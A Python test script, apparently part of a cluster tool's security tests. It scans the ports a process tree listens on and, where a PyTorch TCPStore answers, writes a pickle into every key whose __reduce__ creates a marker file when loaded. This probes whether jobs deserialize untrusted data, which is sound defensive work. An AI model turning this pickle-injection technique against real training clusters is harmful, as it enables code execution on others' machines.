"""Somebody who reaches the machine and tries to have code run by a job: `python -m tests.intruder PID MARKER SECONDS`.

Connects as a client to every port that the processes below PID listen on. Where a torch store answers, each of its
keys, and those that torch's rendezvous are known to use, get a pickle that makes the file MARKER when it is loaded.
Prints as JSON {"ports": [[address, port], …], "stores": those that are one, "keys": how many it wrote}.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import sys
import threading
import time
from datetime import timedelta
from ipaddress import ip_address
from pathlib import Path
from typing import Any

from kdcluster.processes import descendants

KNOWN = ("torch.rendezvous.none", "/torch.rendezvous.none", "torch.rendezvous.0", "none/torch.rendezvous.none")
LISTENS = "0A"


class Bomb:
    """Makes a file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.marker,)


def listening(pids: list[int]) -> set[tuple[str, int]]:
    """(address, port) of every TCP socket on which one of these processes listens (proc(5), /proc/net/tcp)."""
    sockets = set()
    for pid in pids:
        for handle in Path(f"/proc/{pid}/fd").glob("*"):
            try:
                sockets.add(str(handle.readlink()))
            except OSError:
                continue
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENS and f"socket:[{fields[9]}]" in sockets:
                address, port = fields[1].split(":")
                words = bytes.fromhex(address)
                network = b"".join(words[at : at + 4][::-1] for at in range(0, len(words), 4))
                found.add((str(ip_address(network)), int(port, 16)))
    return found


def attack(address: str, port: int, marker: Path) -> int | None:
    """How many keys of the store there took a pickle; None where there is no store."""
    from torch.distributed import DistError, TCPStore

    try:
        where = "127.0.0.1" if address in ("0.0.0.0", "::") else address
        store = TCPStore(where, port, None, False, timedelta(seconds=2), wait_for_workers=False)
        written = 0
        for bomb in (pickle.dumps(Bomb(marker)), base64.b64encode(pickle.dumps(Bomb(marker)))):
            for key in {*store.list_keys(), *KNOWN}:
                store.set(key, bomb)
                written += 1
    except DistError:
        return None
    return written


def main() -> None:
    pid, marker, seconds = int(sys.argv[1]), Path(sys.argv[2]), float(sys.argv[3])
    written: dict[tuple[str, int], int] = {}
    at_it: dict[tuple[str, int], threading.Thread] = {}

    def try_one(place: tuple[str, int]) -> None:
        if (keys := attack(*place, marker)) is not None:
            written[place] = keys

    end = time.monotonic() + seconds
    while time.monotonic() < end and not marker.exists():
        for place in listening([pid, *descendants(pid)]):
            if place not in at_it or not at_it[place].is_alive():  # what is no store may never answer
                at_it[place] = threading.Thread(target=try_one, args=(place,), daemon=True)
                at_it[place].start()
        time.sleep(0.5)
    print(json.dumps({"ports": sorted(at_it), "stores": sorted(written), "keys": sum(written.values())}), flush=True)
    os._exit(0)  # a thread may still wait inside torch


if __name__ == "__main__":
    main()
